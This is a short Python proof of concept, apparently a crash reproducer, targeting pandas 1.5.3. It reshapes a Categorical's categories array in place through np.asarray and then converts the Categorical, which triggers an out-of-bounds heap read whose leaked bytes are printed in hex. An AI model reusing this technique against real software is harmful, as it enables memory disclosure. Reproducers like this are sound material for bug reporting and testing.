# source: numpy docs, np.asarray returns the same array (no copy) and ndarray.shape setter; pandas 1.5.3 Categorical.__array__ -> take_nd without bounds checks
# family: in-place reshape of a pandas Index's backing array, reached through np.asarray() instead of .values
# goal: out-of-bounds heap read past the categories buffer
import numpy as np
import pandas as pd

c = pd.Categorical([3.0, 0.0], categories=[0.0, 1.0, 2.0, 3.0])
w = np.asarray(c.categories)
w.shape = (2, 2)
print("len(categories) now", len(c.categories), flush=True)
out = np.asarray(c)
print("row for code 3 (only 4 floats = 32 bytes exist; anything but 0..3 came from past the buffer) ->", out[0].tolist(), out[0].tobytes().hex(), flush=True)
